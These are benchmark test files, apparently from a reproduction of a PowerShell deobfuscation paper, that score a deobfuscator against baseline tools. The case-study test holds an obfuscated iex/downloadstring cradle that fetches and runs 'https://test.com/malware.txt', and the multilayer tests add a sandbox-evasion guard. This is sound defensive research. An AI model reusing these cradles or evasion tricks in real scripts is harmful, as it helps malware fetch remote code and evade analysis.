        "highest-scoring samples (paper: ours L1 91.5% / L2 64.7% / "
        "L3 27% / avg 46%; best baseline avg 24%)",
        ["Tool", "#Valid", "L1", "L2", "L3", "Avg score reduced"],
        rows,
    )
    write_result("table5_mitigation", text)

    our_valid, our_mitigation, our_reduction = summary[
        "Invoke-Deobfuscation"
    ]
    # Ours produces the most valid results.
    for name, (valid, _m, _r) in summary.items():
        if name != "Invoke-Deobfuscation":
            assert our_valid >= valid, (name, valid, our_valid)
    # Shape: strong L1/L2 mitigation, weaker L3 (undecodable payload
    # blobs keep their L3 markers), ~46% average reduction.
    assert our_mitigation[1] > 0.8
    assert our_mitigation[2] > 0.5
    assert our_reduction > 0.35
    # Every baseline reduces the score less than ours.
    for name, (_v, _m, reduction) in summary.items():
        if name != "Invoke-Deobfuscation":
            assert reduction < our_reduction, (name, reduction)
