"""E2 — Table II: per-technique deobfuscation ability of every tool.

Paper protocol (Section IV-C1): obfuscate ``write-host hello`` with each
technique, place the obfuscated piece in three positions (separate line,
assignment expression, part of a pipe), and mark a tool ✓ when it
recovers all three, O when only some, ✗ when none.

Expected shape: Invoke-Deobfuscation ✓ on every row except Whitespace
encoding; regex baselines handle only ticking/concat/replace; Li et al.
partial (position 1 only) on directly executable pieces.
"""

import random
from typing import Dict

import pytest

from benchmarks.bench_utils import all_tools, render_table, write_result
from repro.obfuscation.catalog import TECHNIQUES, get_technique, positions

PAYLOAD = "write-host hello"

# Table II row order.
ROWS = [
    ("ticking", "Ticking", 1),
    ("whitespacing", "Whitespacing", 1),
    ("random_case", "Random Case", 1),
    ("random_name", "Random Name", 1),
    ("alias", "Alias", 1),
    ("concat", "Concatenate", 2),
    ("reorder", "Reorder", 2),
    ("replace", "Replace", 2),
    ("reverse", "Reverse", 2),
    ("encode_binary", "Binary/Octal", 3),
    ("encode_ascii", "ASCII/Hex", 3),
    ("base64", "Base64", 3),
    ("whitespace_encoding", "Whitespace", 3),
    ("specialchar", "Specialchar", 3),
    ("bxor", "Bxor", 3),
    ("securestring", "SecureString", 3),
    ("deflate", "DeflateStream", 3),
]

PAPER_OURS = {name: "Y" for name, _, _ in ROWS}
PAPER_OURS["whitespace_encoding"] = "X"


# Token techniques need a payload they can actually transform: aliasable
# commands for "alias", a variable for "random_name".
_TOKEN_PAYLOADS = {
    "alias": "write-host hello; dir 'C:\\'",
    "random_name": "$data = 'stage'; write-host hello $data",
}


def _cases_for(technique_name: str) -> Dict[str, str]:
    """Build the three position cases (or the whole-script case)."""
    technique = get_technique(technique_name)
    rng = random.Random(99)
    if technique.kind == "string":
        piece = technique.encode_string(PAYLOAD, rng)
        return positions(piece)
    if technique.kind == "script":
        # Whitespace encoding: the decode loop in the three positions,
        # without any invoker (the piece is what gets tested).
        from repro.obfuscation.encoding_obfuscator import (
            whitespace_decoder_fragment,
        )

        return {
            "separate_line": whitespace_decoder_fragment(PAYLOAD, "$wsout"),
            "assignment": whitespace_decoder_fragment(
                PAYLOAD, "$fmp = $wsout"
            ),
            "pipe": whitespace_decoder_fragment(
                PAYLOAD, "$wsout | out-null"
            ),
        }
    # Token techniques rewrite a whole script; the "positions" concept
    # does not apply, so the payload script itself is the test case.
    payload = _TOKEN_PAYLOADS.get(technique_name, PAYLOAD)
    return {"whole_script": technique.apply_to_script(payload, rng)}


def _recovered(technique_name: str, case_name: str, output: str) -> bool:
    """Did the tool surface the payload (or its canonical rewrite)?"""
    lowered = output.lower()
    technique = get_technique(technique_name)
    if "write-host hello" not in lowered:
        return False
    if technique.kind == "token":
        # The payload must be present AND the technique gone — use the
        # Section IV-B2 detectors as the judge.
        from repro.scoring import detect_techniques

        return technique_name not in detect_techniques(output)
    return True


def _grade(tool, technique_name: str) -> str:
    cases = _cases_for(technique_name)
    wins = 0
    for case_name, script in cases.items():
        output = tool.final_script(script)
        if _recovered(technique_name, case_name, output):
            wins += 1
    if wins == len(cases):
        return "Y"
    if wins > 0:
        return "O"
    return "X"


@pytest.fixture(scope="module")
def matrix():
    tools = all_tools()
    grid = {}
    for technique_name, _label, _level in ROWS:
        grid[technique_name] = {
            tool.name: _grade(tool, technique_name) for tool in tools
        }
    return tools, grid


def test_table2_ability_matrix(benchmark, matrix):
    tools, grid = matrix
    ours = our_name = "Invoke-Deobfuscation"

    def representative():
        # Benchmark one representative recovery (reorder, hardest L2).
        tool = [t for t in tools if t.name == our_name][0]
        case = _cases_for("reorder")["separate_line"]
        return tool.final_script(case)

    benchmark.pedantic(representative, iterations=1, rounds=3)

    headers = ["Level", "Subtype"] + [t.name for t in tools] + ["Paper(ours)"]
    rows = []
    for technique_name, label, level in ROWS:
        rows.append(
            [level, label]
            + [grid[technique_name][t.name] for t in tools]
            + [PAPER_OURS[technique_name]]
        )
    text = render_table(
        "Table II — deobfuscation ability (Y=all positions, O=some, X=none)",
        headers,
        rows,
    )
    write_result("table2_ability", text)

    # Shape assertions from the paper.
    for technique_name, _label, _level in ROWS:
        expected = PAPER_OURS[technique_name]
        actual = grid[technique_name][our_name]
        assert actual == expected, (
            f"ours on {technique_name}: {actual} != paper {expected}"
        )
    # Baselines must NOT handle the encoding rows (beyond partials).
    for baseline in ("PSDecode", "PowerDrive"):
        handled = sum(
            1
            for name, _l, level in ROWS
            if level == 3 and grid[name][baseline] == "Y"
        )
        assert handled == 0, f"{baseline} should not crack L3 rows"
    # Ours strictly dominates every baseline in rows fully handled.
    ours_full = sum(1 for name, _l, _v in ROWS if grid[name][our_name] == "Y")
    for tool in tools:
        if tool.name == our_name:
            continue
        full = sum(1 for name, _l, _v in ROWS if grid[name][tool.name] == "Y")
        assert ours_full > full
