"""E8 — Figs 7/8: the paper's case study, end to end.

Fig 7(a) input runs through all three phases and must land on Fig 7(d):

    Write-Host hello
    $var0 = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'
    $var1 = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='
    $var2 = 'https://test.com/malware.txt'
    .('iex') (New-Object net.webclient).downloadstring('https://...')

Fig 8 compares the baselines on the same input.
"""

import pytest

from benchmarks.bench_utils import (
    baseline_adapters,
    our_tool_adapter,
    render_table,
    write_result,
)

CASE = (
    "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
    "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
    "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
    "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
    "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
    ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
    ".downloadstring($sdfs)"
)


def test_case_study(benchmark):
    ours = our_tool_adapter()
    result = benchmark.pedantic(
        lambda: ours.run(CASE), iterations=1, rounds=3
    )

    lines = result.script.splitlines()
    rows = [[i, line] for i, line in enumerate(lines)]
    baseline_rows = []
    for tool in baseline_adapters():
        out = tool.final_script(CASE).replace("\n", " \\n ")
        baseline_rows.append([tool.name, out[:100]])
    text = render_table(
        "Fig 7(d) — Invoke-Deobfuscation's final output",
        ["line", "content"],
        rows,
    ) + "\n" + render_table(
        "Fig 8 — baseline outputs on the same case (truncated)",
        ["tool", "output"],
        baseline_rows,
    )
    write_result("case_study", text)

    # Fig 7(d), line by line.
    assert lines[0] == "Write-Host hello"
    assert lines[1] == "$var0 = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'"
    assert lines[2] == "$var1 = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='"
    assert lines[3] == "$var2 = 'https://test.com/malware.txt'"
    assert lines[4].startswith(".('iex')")
    assert "'https://test.com/malware.txt'" in lines[4]
    # The blocklist keeps the download as code, never executed.
    assert "downloadstring" in lines[4].lower()

    # Fig 8 failure modes: no baseline recovers the URL.
    for tool in baseline_adapters():
        out = tool.final_script(CASE)
        assert "https://test.com/malware.txt" not in out, tool.name
