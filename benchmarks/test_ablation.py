"""A1 — ablation of the design decisions DESIGN.md calls out.

Not a paper table; quantifies, on the same corpus, what each phase of
Invoke-Deobfuscation buys:

- variable tracing off → the Li et al. failure mode on variable pieces;
- blocklist off → evaluation wanders into unrelated commands (Fig 6's
  baseline slowness);
- token phase off → L1 noise survives into the output;
- multilayer off → wrapped payloads stay wrapped.
"""

import statistics

import pytest

from benchmarks.bench_utils import (
    fig5_corpus,
    our_tool_adapter,
    render_table,
    write_result,
)
from repro.analysis import extract_key_info
from repro.scoring import score_script

VARIANTS = {
    "full": {},
    "no variable tracing": {"trace_variables": False},
    "no blocklist": {"enforce_blocklist": False},
    "no token phase": {"token_phase": False},
    "no multilayer": {"multilayer": False},
    "no AST phase": {"ast_phase": False},
    "+ function tracing": {"trace_functions": True},
}


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=60, seed=4242)


def _evaluate_variant(kwargs, corpus):
    tool = our_tool_adapter(**kwargs)
    url_hits = 0
    url_total = 0
    times = []
    score_reductions = []
    for sample in corpus:
        result = tool.run(sample.script)
        times.append(result.elapsed_seconds)
        truth_urls = set(sample.truth.urls) if sample.truth else set()
        url_total += len(truth_urls)
        found = extract_key_info(result.script)
        url_hits += len(found.urls & truth_urls)
        before = score_script(sample.script).score
        if before:
            after = score_script(result.script).score
            score_reductions.append(max(0, before - after) / before)
    return {
        "url_recovery": url_hits / url_total if url_total else 0.0,
        "mean_time": statistics.mean(times),
        "score_reduction": statistics.mean(score_reductions),
    }


def test_ablation(benchmark, corpus):
    measured = {}
    for name, kwargs in VARIANTS.items():
        measured[name] = _evaluate_variant(kwargs, corpus)

    full_tool = our_tool_adapter()
    benchmark.pedantic(
        lambda: full_tool.run(corpus[0].script), iterations=1, rounds=3
    )

    rows = [
        [
            name,
            f"{100 * m['url_recovery']:.1f}%",
            f"{100 * m['score_reduction']:.1f}%",
            f"{1000 * m['mean_time']:.1f}",
        ]
        for name, m in measured.items()
    ]
    text = render_table(
        f"Ablation over {len(corpus)} samples",
        ["Variant", "URL recovery", "Score reduction", "mean ms"],
        rows,
    )
    write_result("ablation", text)

    full = measured["full"]
    # Variable tracing is what recovers split URLs.
    assert (
        measured["no variable tracing"]["url_recovery"]
        < full["url_recovery"]
    )
    # The token phase drives L1 mitigation.
    assert (
        measured["no token phase"]["score_reduction"]
        < full["score_reduction"]
    )
    # Multilayer unwrapping is needed to reach wrapped payloads.
    assert (
        measured["no multilayer"]["url_recovery"] < full["url_recovery"]
    )
    # The AST phase carries most of the recovery.
    assert (
        measured["no AST phase"]["url_recovery"] < full["url_recovery"]
    )