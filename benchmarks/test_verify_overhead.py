"""Verify overhead: the differential check vs the pipeline it verifies.

``repro verify`` runs the sandbox twice (original + deobfuscated) on top
of one pipeline pass, so it can never be free — but it must stay cheap
enough to turn on for whole-corpus batch runs.  Acceptance: the p50
overhead the verifier adds is at most 2x the p50 of a single pipeline
pass on the same samples.
"""

import statistics
import time

import pytest

from benchmarks.bench_utils import fig5_corpus, render_table, write_result
from repro import Deobfuscator
from repro.verify import verify_result

SAMPLES = 20
REPEATS = 3


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=SAMPLES, seed=2022)


def _p50(values):
    return statistics.median(values)


def test_verify_overhead(benchmark, corpus):
    tool = Deobfuscator()
    pipeline_times = []
    verified_times = []
    for sample in corpus:
        best_plain = min(
            _timed(lambda: tool.deobfuscate(sample.script))
            for _ in range(REPEATS)
        )
        best_verified = min(
            _timed(lambda: verify_result(tool.deobfuscate(sample.script)))
            for _ in range(REPEATS)
        )
        pipeline_times.append(best_plain)
        verified_times.append(best_verified)

    def run_one():
        verify_result(tool.deobfuscate(corpus[0].script))

    benchmark.pedantic(run_one, iterations=1, rounds=3)

    pipeline_p50 = _p50(pipeline_times)
    verified_p50 = _p50(verified_times)
    overhead_p50 = verified_p50 - pipeline_p50

    text = render_table(
        f"Verify overhead over {len(corpus)} corpus samples "
        "(acceptance: p50 overhead <= 2x pipeline p50)",
        ["Measure", "p50 (ms)"],
        [
            ["pipeline only", f"{pipeline_p50 * 1000:.2f}"],
            ["pipeline + verify", f"{verified_p50 * 1000:.2f}"],
            ["verify overhead", f"{overhead_p50 * 1000:.2f}"],
            [
                "overhead / pipeline",
                f"{overhead_p50 / pipeline_p50:.2f}x"
                if pipeline_p50
                else "n/a",
            ],
        ],
    )
    write_result("verify_overhead", text)

    assert overhead_p50 <= 2 * pipeline_p50, (
        f"verify adds {overhead_p50 * 1000:.2f} ms at p50, more than 2x "
        f"the {pipeline_p50 * 1000:.2f} ms pipeline p50"
    )


def _timed(thunk):
    start = time.perf_counter()
    thunk()
    return time.perf_counter() - start
