"""E5 — Table III: ability to handle multiple layers of obfuscation.

Paper (12 multi-layer samples): PSDecode 2, PowerDrive 1, PowerDecode 8,
Li et al. 0, Invoke-Deobfuscation 12.  The shape to reproduce: ours
recovers all samples; PowerDecode is the best baseline (its multi-layer
loop); PSDecode/PowerDrive recover a few; Li et al. none.

The 12 samples mirror wild multi-layer composition: iex chains, encoded-
command chains, mixtures, and sandbox-evasion guards that kill
execution-based capture.
"""

import random
from typing import List, Tuple

import pytest

from benchmarks.bench_utils import all_tools, render_table, write_result
from benchmarks.trajectory import stage_metrics
from repro.obfuscation.layers import wrap_encoded_command, wrap_invoke_expression
from repro.obfuscation.string_obfuscator import encode_concat, encode_reorder

PAYLOAD = "write-host deep-payload"
GUARD = "if ($env:USERNAME -eq 'user') { exit }\n"


def _iex_chain(depth: int, seed: int, guard: bool = False) -> str:
    rng = random.Random(seed)
    script = PAYLOAD
    for _ in range(depth):
        encoder = rng.choice([encode_concat, encode_reorder])
        script = wrap_invoke_expression(encoder(script, rng), rng)
    if guard:
        script = GUARD + script
    return script


def _enc_chain(depth: int, seed: int, guard: bool = False) -> str:
    rng = random.Random(seed)
    script = PAYLOAD
    for _ in range(depth):
        script = wrap_encoded_command(script, rng)
    if guard:
        script = GUARD + script
    return script


def _mixed_chain(seed: int, guard: bool = False) -> str:
    rng = random.Random(seed)
    script = wrap_encoded_command(PAYLOAD, rng)
    script = wrap_invoke_expression(encode_concat(script, rng), rng)
    if guard:
        script = GUARD + script
    return script


@pytest.fixture(scope="module")
def samples() -> List[Tuple[str, str]]:
    return [
        ("iex-2", _iex_chain(2, seed=1)),
        ("iex-3", _iex_chain(3, seed=2)),
        ("iex-2b", _iex_chain(2, seed=3)),
        ("iex-1", _iex_chain(1, seed=4)),
        ("iex-2-guard", _iex_chain(2, seed=5, guard=True)),
        ("iex-3-guard", _iex_chain(3, seed=6, guard=True)),
        ("enc-2", _enc_chain(2, seed=7)),
        ("enc-3", _enc_chain(3, seed=8)),
        ("enc-2b", _enc_chain(2, seed=9)),
        ("enc-2-guard", _enc_chain(2, seed=10, guard=True)),
        ("mixed", _mixed_chain(seed=11)),
        ("mixed-guard", _mixed_chain(seed=12, guard=True)),
    ]


def _recovered(output: str) -> bool:
    return "write-host deep-payload" in output.lower()


def test_table3_multilayer(benchmark, samples):
    tools = all_tools()
    scores = {}
    details = {}
    for tool in tools:
        wins = 0
        per_sample = []
        for name, script in samples:
            output = tool.final_script(script)
            ok = _recovered(output)
            wins += ok
            per_sample.append((name, ok))
        scores[tool.name] = wins
        details[tool.name] = per_sample

    ours = [t for t in tools if t.name == "Invoke-Deobfuscation"][0]

    def run_ours():
        return ours.final_script(samples[1][1])

    benchmark.pedantic(run_ours, iterations=1, rounds=3)

    paper = {
        "PSDecode": 2,
        "PowerDrive": 1,
        "PowerDecode": 8,
        "Li et al.": 0,
        "Invoke-Deobfuscation": 12,
    }
    rows = [
        [
            name,
            scores[name],
            f"{100.0 * scores[name] / len(samples):.1f}%",
            paper[name],
        ]
        for name in scores
    ]
    text = render_table(
        f"Table III — multi-layer handling ({len(samples)} samples)",
        ["Tool", "#Recovered", "Proportion", "Paper"],
        rows,
    )
    write_result("table3_multilayer", text)
    stage_metrics("table3_multilayer", {
        "samples": len(samples),
        "recovered": dict(scores),
        "paper": paper,
    })

    assert scores["Invoke-Deobfuscation"] == len(samples)
    assert scores["Li et al."] == 0
    # PowerDecode is the best baseline but strictly below ours.
    baseline_scores = {
        name: score
        for name, score in scores.items()
        if name != "Invoke-Deobfuscation"
    }
    assert max(baseline_scores.values()) == baseline_scores["PowerDecode"]
    assert baseline_scores["PowerDecode"] < len(samples)
    assert baseline_scores["PSDecode"] <= baseline_scores["PowerDecode"]
    assert baseline_scores["PowerDrive"] <= baseline_scores["PSDecode"]
