"""(ours) — batch engine throughput: scripts/sec at 1 vs N workers.

The paper evaluates over a 39,713-sample wild corpus (Section IV); the
``repro.batch`` pool is what makes runs of that shape practical.  This
bench writes a generated corpus to disk, runs it through the pool at
``--jobs 1`` and ``--jobs N``, and records end-to-end throughput plus
latency percentiles.  Parallel efficiency is deliberately *not*
asserted to a tight bound — per-sample work here is milliseconds, so
process overhead dominates on small corpora — but the N-worker run must
not collapse, and every sample must come back ``ok``.
"""

import multiprocessing
import time

import pytest

from benchmarks.bench_utils import render_table, write_result
from benchmarks.trajectory import stage_metrics
from repro.batch import BatchPool, make_tasks, summarize

CORPUS_SIZE = 40
JOBS_N = min(4, multiprocessing.cpu_count())


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory):
    from repro.dataset import generate_corpus

    directory = tmp_path_factory.mktemp("batch-corpus")
    samples = generate_corpus(CORPUS_SIZE, seed=2022)
    paths = []
    for sample in samples:
        path = directory / f"{sample.identifier}.ps1"
        path.write_text(sample.script, encoding="utf-8")
        paths.append(str(path))
    return paths


def run_pool(paths, jobs):
    tasks = make_tasks(paths, deadline_seconds=30.0)
    started = time.monotonic()
    records = list(BatchPool(jobs=jobs, timeout=30.0).run(tasks))
    wall = time.monotonic() - started
    return summarize(records, wall_seconds=wall)


def test_batch_throughput(corpus_dir):
    runs = [(1, run_pool(corpus_dir, 1)), (JOBS_N, run_pool(corpus_dir, JOBS_N))]

    rows = []
    for jobs, summary in runs:
        rows.append(
            [
                f"--jobs {jobs}",
                summary["total"],
                f"{summary['throughput_scripts_per_second']:.2f}",
                f"{summary['wall_seconds']:.2f}",
                f"{summary['latency_p50_seconds'] * 1000:.1f}",
                f"{summary['latency_p95_seconds'] * 1000:.1f}",
            ]
        )
    text = render_table(
        f"Batch engine throughput — {CORPUS_SIZE} generated samples, "
        f"1 vs {JOBS_N} workers",
        ["Config", "samples", "scripts/s", "wall (s)",
         "p50 (ms)", "p95 (ms)"],
        rows,
    )
    write_result("batch_throughput", text)
    stage_metrics("batch_throughput", {
        f"jobs_{jobs}": {
            "samples_per_sec": summary["throughput_scripts_per_second"],
            "wall_seconds": summary["wall_seconds"],
            "p50_ms": summary["latency_p50_seconds"] * 1000,
            "p95_ms": summary["latency_p95_seconds"] * 1000,
        }
        for jobs, summary in runs
    })

    for _jobs, summary in runs:
        assert summary["status_counts"]["ok"] == CORPUS_SIZE
    serial, parallel = runs[0][1], runs[1][1]
    if JOBS_N > 1:
        # parallel must not collapse below half the serial throughput
        assert (
            parallel["throughput_scripts_per_second"]
            > 0.5 * serial["throughput_scripts_per_second"]
        )
