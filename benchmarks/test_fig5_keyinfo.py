"""E3 — Fig 5: key information recovered by different tools.

Paper: on 100 obfuscated scripts, Invoke-Deobfuscation recovers more than
2x the key information (ps1 files, powershell commands, URLs, IPs) of any
other tool, averaging 96.8% of the manual benchmark.

The manual benchmark here is the generator's ground truth: the clean
script each sample was built from.
"""

import pytest

from benchmarks.bench_utils import (
    all_tools,
    fig5_corpus,
    layered_output,
    our_tool_adapter,
    render_table,
    write_result,
)
from repro.analysis import extract_key_info

CATEGORIES = ("ps1_files", "powershell_commands", "urls", "ips")


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=100, seed=2022)


@pytest.fixture(scope="module")
def manual_benchmark(corpus):
    """Per-sample ground truth (what manual deobfuscation yields).

    A human analyst reassembles variable-split URLs, so the benchmark is
    the generator's ground truth, not a regex pass over the clean text.
    """
    from repro.analysis.keyinfo import KeyInfo

    manual = []
    for sample in corpus:
        truth = sample.truth
        manual.append(
            KeyInfo(
                urls=set(truth.urls),
                ips=set(truth.ips),
                ps1_files=set(truth.ps1_files),
                powershell_commands=set(truth.powershell_commands),
            )
        )
    return manual


def _recovered_counts(found, truth):
    """Category counts of truth items visible in the tool's output."""
    counts = {
        "urls": len(found.urls & truth.urls),
        "ips": len(found.ips & truth.ips),
    }
    lowered_found = {got.lower() for got in found.ps1_files}
    counts["ps1_files"] = sum(
        1 for wanted in truth.ps1_files if wanted.lower() in lowered_found
    )
    # "powershell command" is a per-launch fact, not an exact string.
    counts["powershell_commands"] = min(
        len(found.powershell_commands), len(truth.powershell_commands)
    )
    return counts


def _count_recovered(tool, corpus, manual):
    totals = {category: 0 for category in CATEGORIES}
    for sample, truth in zip(corpus, manual):
        result = tool.run(sample.script)
        found = extract_key_info(layered_output(result))
        for category, count in _recovered_counts(found, truth).items():
            totals[category] += count
    return totals


def test_fig5_key_information(benchmark, corpus, manual_benchmark):
    tools = all_tools()
    manual_totals = {
        category: sum(len(getattr(m, category)) for m in manual_benchmark)
        for category in CATEGORIES
    }

    results = {}
    for tool in tools:
        results[tool.name] = _count_recovered(
            tool, corpus, manual_benchmark
        )

    ours = our_tool_adapter()

    def run_ours_once():
        return ours.final_script(corpus[0].script)

    benchmark.pedantic(run_ours_once, iterations=1, rounds=3)

    headers = ["Tool"] + list(CATEGORIES) + ["total", "% of manual"]
    rows = []
    manual_total = sum(manual_totals.values())
    for name in ["Manual"] + [t.name for t in tools]:
        if name == "Manual":
            counts = manual_totals
        else:
            counts = results[name]
        total = sum(counts.values())
        rows.append(
            [name]
            + [counts[c] for c in CATEGORIES]
            + [total, f"{100.0 * total / manual_total:.1f}%"]
        )
    text = render_table(
        f"Fig 5 — key information recovered (n={len(corpus)} samples)",
        headers,
        rows,
    )
    write_result("fig5_keyinfo", text)

    our_total = sum(results["Invoke-Deobfuscation"].values())
    best_baseline = max(
        sum(results[t.name].values())
        for t in tools
        if t.name != "Invoke-Deobfuscation"
    )
    # Paper: ours recovers > 2x the best baseline and ~96.8% of manual.
    assert our_total >= 2 * best_baseline, (
        f"ours {our_total} vs best baseline {best_baseline}"
    )
    assert our_total / manual_total >= 0.85
