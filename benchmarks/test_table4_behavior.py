"""E6 — Table IV: behavioural consistency of deobfuscation results.

Paper: of 32 samples with network behaviour, 100% of
Invoke-Deobfuscation's outputs behave identically to the originals;
PSDecode/PowerDrive 25%, PowerDecode 37.5%, Li et al. 0%.

A tool's output only counts when it is an *effective* result (changed
from the input — the paper excludes tools returning the original script).
"""

import pytest

from benchmarks.bench_utils import (
    all_tools,
    fig5_corpus,
    our_tool_adapter,
    render_table,
    write_result,
)
from repro.analysis import observe_behavior


@pytest.fixture(scope="module")
def corpus():
    return fig5_corpus(count=100, seed=2022)


@pytest.fixture(scope="module")
def networked(corpus):
    """Samples whose originals show network behaviour in the sandbox."""
    kept = []
    for sample in corpus:
        report = observe_behavior(sample.script)
        if report.has_network_behavior:
            kept.append((sample, report.network_signature))
    return kept


def test_table4_behavior(benchmark, networked):
    tools = all_tools()
    rows = []
    scores = {}
    for tool in tools:
        effective = 0
        consistent = 0
        for sample, original_signature in networked:
            result = tool.run(sample.script)
            if not result.changed:
                continue  # not an effective deobfuscation result
            report = observe_behavior(result.script)
            if report.network_signature:
                effective += 1
                if report.network_signature == original_signature:
                    consistent += 1
        scores[tool.name] = (effective, consistent)
        rows.append(
            [
                tool.name,
                effective,
                consistent,
                f"{100.0 * consistent / len(networked):.1f}%",
            ]
        )

    ours = our_tool_adapter()

    def run_one():
        sample, _ = networked[0]
        return observe_behavior(ours.final_script(sample.script))

    benchmark.pedantic(run_one, iterations=1, rounds=3)

    text = render_table(
        f"Table IV — behavioural consistency "
        f"({len(networked)} samples with network behaviour; paper: "
        "ours 100%, PowerDecode 37.5%, PSDecode/PowerDrive 25%, Li 0%)",
        ["Tool", "#With network", "#Consistent", "Proportion"],
        rows,
    )
    write_result("table4_behavior", text)

    total = len(networked)
    assert total >= 20  # enough signal, like the paper's 32
    our_effective, our_consistent = scores["Invoke-Deobfuscation"]
    # Paper: every one of our results keeps the original behaviour.
    assert our_consistent == our_effective
    assert our_consistent / total > 0.9
    # Every baseline is strictly below ours.  (Paper: ≤37.5%; our
    # re-implementations never crash like the originals, so they keep
    # more behaviour — the ordering is the reproducible claim.)
    for name, (_eff, consistent) in scores.items():
        if name == "Invoke-Deobfuscation":
            continue
        assert consistent < our_consistent, (name, consistent)
    # Li et al.'s context-free replacement erases behaviour ~entirely.
    assert scores["Li et al."][1] <= total * 0.15
