"""Persisted performance trajectory for the deobfuscation pipeline.

The paper's efficiency claim (Fig. 6) is asserted by benchmark bounds
but was never *recorded* — each pytest-benchmark run printed numbers
and threw them away.  This module is the harness every benchmark
writes through:

- ``measure()`` runs the standing measurement suite: per-phase
  p50/p95 over the Fig 6 corpus, end-to-end pipeline p50/p95 on both
  the Fig 6 corpus and the Table III multilayer samples, batch
  samples/sec, service throughput and cache speedup, and the
  pipeline's own hit counters (recovery cache, subtree memo,
  interning).
- ``append_entry()`` appends one labelled entry to the committed
  ``BENCH_pipeline.json`` at the repo root (append-on-run: history is
  never rewritten, so the file is the perf trajectory of the repo).
- ``check_regression()`` is the no-regression gate: a fresh
  measurement must not regress any phase p50 (or the end-to-end
  p50s) by more than the tolerance against the *last committed*
  entry.
- ``stage_metrics()`` is the hook the pytest benchmarks write
  through: numeric results land in ``benchmarks/results/
  trajectory_staged.json`` so a benchmark run leaves machine-readable
  numbers next to its human tables.

CLI (used by the ``bench-trajectory`` CI job)::

    python -m benchmarks.trajectory run --label post-optimization
    python -m benchmarks.trajectory check --artifact fresh.json
    python -m benchmarks.trajectory show

Timing methodology: every latency metric is a per-sample minimum
across ``--rounds`` runs (scheduler noise only ever adds time), then
a percentile across samples.  The gate additionally allows a small
absolute slack so micro-phases measured in fractions of a
millisecond cannot flake the build.
"""

import argparse
import json
import os
import platform
import random
import statistics
import subprocess
import sys
import tempfile
import time
from typing import Any, Dict, List, Optional

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TRAJECTORY_PATH = os.path.join(REPO_ROOT, "BENCH_pipeline.json")
STAGED_PATH = os.path.join(
    os.path.dirname(os.path.abspath(__file__)), "results",
    "trajectory_staged.json",
)

SCHEMA_VERSION = 1

# Gate policy (satellite: CI fails on >10% p50 regression in any phase).
DEFAULT_TOLERANCE = 0.10
DEFAULT_SLACK_MS = 2.0

# The event-log pin: enabling debug logging (ring sink) may cost at
# most this much pipeline p50 over the disabled default — and the
# disabled emit path must be far cheaper still (microseconds per run).
LOGGING_OVERHEAD_BUDGET_PCT = 5.0
LOGGING_OVERHEAD_SLACK_MS = 0.5
LOGGING_MIN_ROUNDS = 3
LOGGING_MAX_ROUNDS = 8

# Suite sizing — small enough for CI, large enough for stable medians.
PHASE_CORPUS_SIZE = 30
BATCH_CORPUS_SIZE = 20
SERVICE_SCRIPTS = 5
DEFAULT_ROUNDS = 3

MULTILAYER_PAYLOAD = "write-host deep-payload"
MULTILAYER_GUARD = "if ($env:USERNAME -eq 'user') { exit }\n"


# --------------------------------------------------------------------------
# corpora
# --------------------------------------------------------------------------

def multilayer_corpus() -> List[str]:
    """The Table III / Fig 6 multilayer samples: iex chains, encoded-
    command chains, mixtures, and guard variants (12 scripts)."""
    from repro.obfuscation.layers import (
        wrap_encoded_command,
        wrap_invoke_expression,
    )
    from repro.obfuscation.string_obfuscator import (
        encode_concat,
        encode_reorder,
    )

    def iex_chain(depth: int, seed: int, guard: bool = False) -> str:
        rng = random.Random(seed)
        script = MULTILAYER_PAYLOAD
        for _ in range(depth):
            encoder = rng.choice([encode_concat, encode_reorder])
            script = wrap_invoke_expression(encoder(script, rng), rng)
        return (MULTILAYER_GUARD + script) if guard else script

    def enc_chain(depth: int, seed: int, guard: bool = False) -> str:
        rng = random.Random(seed)
        script = MULTILAYER_PAYLOAD
        for _ in range(depth):
            script = wrap_encoded_command(script, rng)
        return (MULTILAYER_GUARD + script) if guard else script

    def mixed_chain(seed: int, guard: bool = False) -> str:
        rng = random.Random(seed)
        script = wrap_encoded_command(MULTILAYER_PAYLOAD, rng)
        script = wrap_invoke_expression(encode_concat(script, rng), rng)
        return (MULTILAYER_GUARD + script) if guard else script

    return [
        iex_chain(2, seed=1),
        iex_chain(3, seed=2),
        iex_chain(2, seed=3),
        iex_chain(1, seed=4),
        iex_chain(2, seed=5, guard=True),
        iex_chain(3, seed=6, guard=True),
        enc_chain(2, seed=7),
        enc_chain(3, seed=8),
        enc_chain(2, seed=9),
        enc_chain(2, seed=10, guard=True),
        mixed_chain(seed=11),
        mixed_chain(seed=12, guard=True),
    ]


def _fig6_corpus(count: int):
    from benchmarks.bench_utils import fig5_corpus

    return [sample.script for sample in fig5_corpus(count=count, seed=2022)]


# --------------------------------------------------------------------------
# statistics helpers
# --------------------------------------------------------------------------

def _p50(values: List[float]) -> float:
    return statistics.median(values)


def _p95(values: List[float]) -> float:
    ordered = sorted(values)
    if len(ordered) == 1:
        return ordered[0]
    index = max(0, min(len(ordered) - 1, round(0.95 * len(ordered)) - 1))
    return ordered[index]


def _dist_ms(per_sample_seconds: List[float]) -> Dict[str, float]:
    return {
        "p50_ms": round(_p50(per_sample_seconds) * 1000, 4),
        "p95_ms": round(_p95(per_sample_seconds) * 1000, 4),
        "samples": len(per_sample_seconds),
    }


def _min_rows(rows: List[List[float]]) -> List[float]:
    """Element-wise minimum across rounds (rows share one length)."""
    return [min(column) for column in zip(*rows)]


# --------------------------------------------------------------------------
# measurement suite
# --------------------------------------------------------------------------

def _measure_phases(rounds: int) -> Dict[str, Any]:
